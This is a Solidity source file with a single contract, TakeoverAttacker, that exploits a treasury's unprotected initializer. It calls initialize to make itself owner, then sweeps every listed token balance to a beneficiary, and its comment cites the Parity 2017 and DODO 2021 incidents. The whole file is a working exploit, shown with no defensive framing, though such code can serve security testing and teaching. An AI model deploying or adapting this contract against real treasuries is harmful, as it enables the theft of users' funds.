// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";

interface IInitializableTreasury {
    function initialize(address newOwner, IERC20 rewardToken) external;
    function rewardToken() external view returns (IERC20);
    function sweep(IERC20 token, address to, uint256 amount) external;
}

/// @title Re-runs the treasury's unprotected initializer to become its owner, then sweeps
/// every listed token to the beneficiary (Parity multisig 2017, DODO 2021).
contract TakeoverAttacker {
    IInitializableTreasury public immutable treasury;
    address public immutable beneficiary;
    address public immutable operator;

    error NotOperator();

    constructor(IInitializableTreasury treasury_, address beneficiary_) {
        treasury = treasury_;
        beneficiary = beneficiary_;
        operator = msg.sender;
    }

    function attack(IERC20[] calldata tokens) external {
        if (msg.sender != operator) revert NotOperator();
        takeOver(treasury, tokens, beneficiary);
    }

    function takeOver(IInitializableTreasury target, IERC20[] memory tokens, address to) internal {
        target.initialize(address(this), target.rewardToken());
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 balance = tokens[i].balanceOf(address(target));
            if (balance > 0) target.sweep(tokens[i], to, balance);
        }
    }
}
